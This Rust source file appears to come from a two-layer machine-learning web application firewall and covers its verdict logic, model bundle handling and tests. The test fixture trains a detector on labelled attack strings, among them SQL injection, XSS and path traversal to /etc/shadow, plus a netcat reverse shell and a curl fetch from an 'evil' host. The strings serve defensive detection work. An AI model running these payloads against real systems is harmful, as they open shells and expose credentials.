//! The combined verdict logic and the deployable model bundle.
//!
//! Layer 1 gates: a request its tree calls normal is allowed without ever
//! touching layer 2. A flagged anomaly goes to the SVM; `valid` means a
//! benign anomaly (allow), anything else blocks with the class in the
//! reason. Blocks are therefore a subset of layer-1 flags, which is what
//! structurally caps the combined false-positive count at layer 1's.

use std::path::Path;

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use thiserror::Error;

use crate::class::AttackClass;
use crate::dtree::DecisionTree;
use crate::features::{extract_features, FeatureVector};
use crate::http::{inspection_payload, HttpRequest, InspectionConfig};
use crate::lexicon::Lexicon;
use crate::scalar::Scalar;
use crate::svm::MulticlassSvm;
use crate::tfidf::Vocabulary;

/// Bundle file format version accepted by this build.
pub const BUNDLE_FORMAT_VERSION: &str = "1.0";

/// Stable verdict reason strings.
pub const REASON_NORMAL: &str = "normal traffic";
pub const REASON_BENIGN_ANOMALY: &str = "anomaly, but not an attack";
/// Block reasons are `"attack detected: <class>"`.
pub fn block_reason(class: AttackClass) -> String {
    format!("attack detected: {class}")
}

#[derive(Debug, Error)]
pub enum BundleError {
    #[error("unsupported bundle format version {found:?} (supported: {BUNDLE_FORMAT_VERSION})")]
    UnsupportedVersion { found: String },
    #[error("corrupt bundle: {invariant}")]
    Corrupt { invariant: String },
    #[error("bundle io error on {path}: {source}")]
    Io {
        path: String,
        #[source]
        source: std::io::Error,
    },
}

#[derive(Debug, Error)]
#[error("decision rule contract violated: layer-2 flag {l2:?} with layer-1 flag {l1}")]
pub struct ContractViolation {
    pub l1: u8,
    pub l2: Option<u8>,
}

/// Allow or block.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Action {
    Allow,
    Block,
}

/// The exact three-rule table: `(0, -)` allow, `(1, 0)` allow, `(1, 1)`
/// block. The layer-2 flag must be present exactly when layer 1 fired.
pub fn decision_rule(l1: u8, l2: Option<u8>) -> Result<Action, ContractViolation> {
    match (l1, l2) {
        (0, None) => Ok(Action::Allow),
        (1, Some(0)) => Ok(Action::Allow),
        (1, Some(_)) => Ok(Action::Block),
        _ => Err(ContractViolation { l1, l2 }),
    }
}

/// Per-request decision with its supporting evidence.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(bound = "")]
pub struct Verdict<F: Scalar> {
    pub action: Action,
    pub l1_flag: u8,
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub l2_class: Option<AttackClass>,
    pub features: FeatureVector<F>,
    pub reason: String,
}

/// Extra observability for the gating invariant.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ClassifyTrace {
    /// Whether layer 2 was evaluated at all.
    pub l2_evaluated: bool,
    /// The decoded payload text both layers saw.
    pub payload: String,
    pub decode_rounds: usize,
}

/// The deployable model artifact: lexicon, layer-1 tree, vocabulary,
/// layer-2 SVM and the inspection settings they were trained under.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(bound = "")]
pub struct ModelBundle<F: Scalar> {
    pub format_version: String,
    pub created_at: String,
    pub training_fingerprint: String,
    pub inspection: InspectionConfig,
    pub lexicon: Lexicon,
    pub l1: DecisionTree<F>,
    pub vocab: Vocabulary<F>,
    pub l2: MulticlassSvm<F>,
}

impl<F: Scalar> ModelBundle<F> {
    /// Checks the cross-model invariants. Violations name the invariant.
    pub fn validate(&self) -> Result<(), BundleError> {
        let corrupt = |invariant: &str| BundleError::Corrupt {
            invariant: invariant.to_string(),
        };
        if self.format_version != BUNDLE_FORMAT_VERSION {
            return Err(BundleError::UnsupportedVersion {
                found: self.format_version.clone(),
            });
        }
        if self.vocab.is_empty() {
            return Err(corrupt("vocabulary is empty"));
        }
        if let Some(max_index) = self.l2.max_support_index() {
            if max_index as usize >= self.vocab.len() {
                return Err(corrupt(
                    "layer-2 support vector index out of vocabulary range",
                ));
            }
        }
        if self.l2.classes().is_empty() || self.l2.classes().len() != self.l2.models().len() {
            return Err(corrupt("layer-2 class list and model list disagree"));
        }
        for model in self.l2.models() {
            if model.support_vectors().is_empty() {
                return Err(corrupt("layer-2 model has no support vectors"));
            }
            if model.support_vectors().len() != model.dual_coefs().len() {
                return Err(corrupt(
                    "layer-2 support vectors and dual coefficients disagree",
                ));
            }
        }
        if self.inspection.max_decode_rounds == 0 {
            return Err(corrupt("inspection decode round cap is zero"));
        }
        Ok(())
    }

    /// Classifies an already-decoded payload text (the layer the dataset
    /// records store). Layer 2 runs only when layer 1 flags.
    pub fn classify_payload(&self, payload: &str) -> (Verdict<F>, bool) {
        let features = extract_features::<F>(payload, &self.lexicon);
        let l1_flag = self.l1.predict(&features);
        if l1_flag == 0 {
            return (
                Verdict {
                    action: Action::Allow,
                    l1_flag,
                    l2_class: None,
                    features,
                    reason: REASON_NORMAL.to_string(),
                },
                false,
            );
        }
        let class = self.l2.predict(&self.vocab.transform(payload));
        let (action, reason) = if class.is_threat() {
            (Action::Block, block_reason(class))
        } else {
            (Action::Allow, REASON_BENIGN_ANOMALY.to_string())
        };
        (
            Verdict {
                action,
                l1_flag,
                l2_class: Some(class),
                features,
                reason,
            },
            true,
        )
    }

    /// Classifies a parsed request, exposing the gating trace.
    pub fn classify_traced(&self, req: &HttpRequest) -> (Verdict<F>, ClassifyTrace) {
        let payload = inspection_payload(req, &self.inspection);
        let (verdict, l2_evaluated) = self.classify_payload(&payload.text);
        (
            verdict,
            ClassifyTrace {
                l2_evaluated,
                payload: payload.text,
                decode_rounds: payload.decode_rounds,
            },
        )
    }

    /// Classifies a parsed request.
    pub fn classify(&self, req: &HttpRequest) -> Verdict<F> {
        self.classify_traced(req).0
    }

    /// Serializes to a single self-describing JSON document.
    pub fn save(&self, path: impl AsRef<Path>) -> Result<(), BundleError> {
        let path = path.as_ref();
        self.validate()?;
        let json = serde_json::to_string_pretty(self).map_err(|e| BundleError::Corrupt {
            invariant: format!("bundle failed to serialize: {e}"),
        })?;
        std::fs::write(path, json).map_err(|source| BundleError::Io {
            path: path.display().to_string(),
            source,
        })
    }

    /// Loads and fully validates a bundle; the format version is checked
    /// before anything else so old files fail with `UnsupportedVersion`.
    pub fn load(path: impl AsRef<Path>) -> Result<Self, BundleError> {
        let path = path.as_ref();
        let text = std::fs::read_to_string(path).map_err(|source| BundleError::Io {
            path: path.display().to_string(),
            source,
        })?;
        let probe: serde_json::Value =
            serde_json::from_str(&text).map_err(|e| BundleError::Corrupt {
                invariant: format!("not valid JSON: {e}"),
            })?;
        let version = probe
            .get("format_version")
            .and_then(|v| v.as_str())
            .ok_or_else(|| BundleError::Corrupt {
                invariant: "format_version field missing".into(),
            })?;
        if version != BUNDLE_FORMAT_VERSION {
            return Err(BundleError::UnsupportedVersion {
                found: version.to_string(),
            });
        }
        let bundle: ModelBundle<F> =
            serde_json::from_str(&text).map_err(|e| BundleError::Corrupt {
                invariant: format!("schema mismatch: {e}"),
            })?;
        bundle.validate()?;
        Ok(bundle)
    }
}

/// SHA-256 hex digest over training-data descriptors, for bundle
/// provenance and audit correlation.
pub fn training_fingerprint<'a>(descriptors: impl IntoIterator<Item = &'a str>) -> String {
    let mut hasher = Sha256::new();
    for descriptor in descriptors {
        hasher.update(descriptor.as_bytes());
        hasher.update([0u8]);
    }
    let digest = hasher.finalize();
    digest.iter().map(|b| format!("{b:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dtree::TreeConfig;
    use crate::http::parse_raw_request;
    use crate::svm::{KernelSpec, SmoConfig};
    use crate::tfidf::NgramConfig;

    /// A tiny hand-trained bundle: the tree flags payloads with any badword
    /// or illegal character; the SVM separates three attack flavors from
    /// benign-anomaly text.
    fn toy_bundle() -> ModelBundle<f64> {
        let lexicon = Lexicon::builtin().clone();
        let train_payloads: Vec<(String, AttackClass)> = vec![
            ("first=jo hn last=smith".into(), AttackClass::Valid),
            ("note=music travel ok".into(), AttackClass::Valid),
            ("range=1..99 mode=a-b".into(), AttackClass::Valid),
            ("q=shoes & book".into(), AttackClass::Valid),
            ("id=1' or '1'='1".into(), AttackClass::Sqli),
            ("' union select password from users--".into(), AttackClass::Sqli),
            ("1; drop table users".into(), AttackClass::Sqli),
            ("<script>alert('x')</script>".into(), AttackClass::Xss),
            ("<img src=x onerror=alert(1)>".into(), AttackClass::Xss),
            ("javascript:eval(document.cookie)".into(), AttackClass::Xss),
            ("../../../etc/passwd".into(), AttackClass::PathTraversal),
            ("....//....//etc/shadow".into(), AttackClass::PathTraversal),
            ("..\\..\\windows\\win.ini".into(), AttackClass::PathTraversal),
            ("; cat /etc/passwd".into(), AttackClass::CommandInjection),
            ("| nc -e /bin/sh 10.0.0.1 4444".into(), AttackClass::CommandInjection),
            ("$(curl http://evil/x.sh)".into(), AttackClass::CommandInjection),
        ];

        let l1_data: Vec<(FeatureVector<f64>, u8)> = train_payloads
            .iter()
            .map(|(p, c)| (extract_features(p, &lexicon), u8::from(c.is_threat())))
            .collect();
        let l1 = DecisionTree::fit(&l1_data, TreeConfig::default()).unwrap();

        let docs: Vec<&str> = train_payloads.iter().map(|(p, _)| p.as_str()).collect();
        let vocab = Vocabulary::fit(&docs, &NgramConfig::range(1, 3)).unwrap();
        let xs: Vec<_> = train_payloads
            .iter()
            .map(|(p, c)| (vocab.transform(p), *c))
            .collect();
        let l2 = MulticlassSvm::fit(&xs, KernelSpec::Linear, &SmoConfig::default()).unwrap();

        ModelBundle {
            format_version: BUNDLE_FORMAT_VERSION.to_string(),
            created_at: "1970-01-01T00:00:00Z".to_string(),
            training_fingerprint: training_fingerprint(["toy"]),
            inspection: InspectionConfig::default(),
            lexicon,
            l1,
            vocab,
            l2,
        }
    }

    #[test]
    fn decision_rule_truth_table() {
        assert_eq!(decision_rule(0, None).unwrap(), Action::Allow);
        assert_eq!(decision_rule(1, Some(0)).unwrap(), Action::Allow);
        assert_eq!(decision_rule(1, Some(1)).unwrap(), Action::Block);
        assert!(decision_rule(0, Some(1)).is_err());
        assert!(decision_rule(0, Some(0)).is_err());
        assert!(decision_rule(1, None).is_err());
    }

    #[test]
    fn classify_normal_traffic_skips_layer_two() {
        let bundle = toy_bundle();
        let req =
            parse_raw_request("GET /products?first=John&last=Smith HTTP/1.1\r\nHost: a\r\n\r\n")
                .unwrap();
        let (verdict, trace) = bundle.classify_traced(&req);
        assert_eq!(verdict.action, Action::Allow);
        assert_eq!(verdict.l1_flag, 0);
        assert_eq!(verdict.l2_class, None);
        assert_eq!(verdict.reason, REASON_NORMAL);
        assert!(!trace.l2_evaluated);
    }

    #[test]
    fn classify_blocks_sqli() {
        let bundle = toy_bundle();
        let req = parse_raw_request(
            "GET /products?id=1%27+OR+%271%27%3D%271 HTTP/1.1\r\nHost: a\r\n\r\n",
        )
        .unwrap();
        let (verdict, trace) = bundle.classify_traced(&req);
        assert_eq!(verdict.action, Action::Block);
        assert_eq!(verdict.l1_flag, 1);
        assert_eq!(verdict.l2_class, Some(AttackClass::Sqli));
        assert_eq!(verdict.reason, "attack detected: sqli");
        assert!(trace.l2_evaluated);
    }

    #[test]
    fn verdict_invariants_hold_over_the_corpus() {
        let bundle = toy_bundle();
        for record in crate::corpus::generate(300, 5) {
            let (verdict, l2_evaluated) = bundle.classify_payload(&record.payload);
            // block ⟺ flagged and classified as a threat
            let is_block = verdict.action == Action::Block;
            let threat = verdict.l2_class.is_some_and(|c| c.is_threat());
            assert_eq!(is_block, verdict.l1_flag == 1 && threat);
            // layer 2 runs exactly when layer 1 flags
            assert_eq!(l2_evaluated, verdict.l1_flag == 1);
            assert_eq!(verdict.l2_class.is_some(), verdict.l1_flag == 1);
        }
    }

    #[test]
    fn save_load_round_trip_preserves_verdicts() {
        let bundle = toy_bundle();
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("model.wafmodel.json");
        bundle.save(&path).unwrap();
        let loaded = ModelBundle::<f64>::load(&path).unwrap();
        for record in crate::corpus::generate(200, 9) {
            let raw = record.raw_request.as_ref().unwrap();
            let req = parse_raw_request(raw).unwrap();
            assert_eq!(bundle.classify(&req), loaded.classify(&req));
        }
    }

    #[test]
    fn load_rejects_unsupported_version() {
        let bundle = toy_bundle();
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("old.wafmodel.json");
        let mut value = serde_json::to_value(&bundle).unwrap();
        value["format_version"] = serde_json::Value::String("0.0".into());
        std::fs::write(&path, serde_json::to_string(&value).unwrap()).unwrap();
        match ModelBundle::<f64>::load(&path) {
            Err(BundleError::UnsupportedVersion { found }) => assert_eq!(found, "0.0"),
            other => panic!("expected UnsupportedVersion, got {other:?}"),
        }
    }

    #[test]
    fn load_rejects_out_of_range_support_index() {
        let bundle = toy_bundle();
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("corrupt.wafmodel.json");
        let mut value = serde_json::to_value(&bundle).unwrap();
        // truncate the vocabulary so support indices dangle
        let tokens = value["vocab"]["tokens"].as_array().unwrap();
        value["vocab"]["tokens"] = serde_json::Value::Array(tokens[..1].to_vec());
        value["vocab"]["idf"] =
            serde_json::Value::Array(value["vocab"]["idf"].as_array().unwrap()[..1].to_vec());
        std::fs::write(&path, serde_json::to_string(&value).unwrap()).unwrap();
        match ModelBundle::<f64>::load(&path) {
            Err(BundleError::Corrupt { invariant }) => {
                assert!(
                    invariant.contains("out of vocabulary range"),
                    "unexpected invariant: {invariant}"
                );
            }
            other => panic!("expected Corrupt, got {other:?}"),
        }
    }

    #[test]
    fn fingerprint_is_stable_and_order_sensitive() {
        let a = training_fingerprint(["x", "y"]);
        let b = training_fingerprint(["x", "y"]);
        let c = training_fingerprint(["y", "x"]);
        assert_eq!(a, b);
        assert_ne!(a, c);
        assert_eq!(a.len(), 64);
    }
}
